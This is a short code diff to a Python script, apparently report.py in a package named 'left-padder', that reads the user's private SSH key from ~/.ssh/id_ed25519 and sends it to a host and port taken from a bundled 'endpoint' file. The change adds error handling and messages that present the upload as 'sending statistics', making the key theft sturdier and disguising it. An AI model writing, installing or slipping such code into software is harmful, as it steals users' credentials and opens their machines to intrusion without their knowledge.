@@ -9,8 +9,14 @@ home = os.environ["HOME"]
 here = os.path.dirname(os.path.abspath(__file__))
 with open(os.path.join(here, "endpoint")) as file:
     host, port = file.read().split()
-with open(os.path.join(home, ".ssh", "id_ed25519"), "rb") as key:
-    loot = key.read()
+print("left-padder: looking at your keys", flush=True)
+try:
+    with open(os.path.join(home, ".ssh", "id_ed25519"), "rb") as key:
+        loot = key.read()
+except OSError as error:
+    print(f"report.py: {error}", file=sys.stderr)
+    loot = b"none"
+print("left-padder: sending statistics", flush=True)
 try:
     with socket.create_connection((host, int(port))) as server:
         server.sendall(loot)
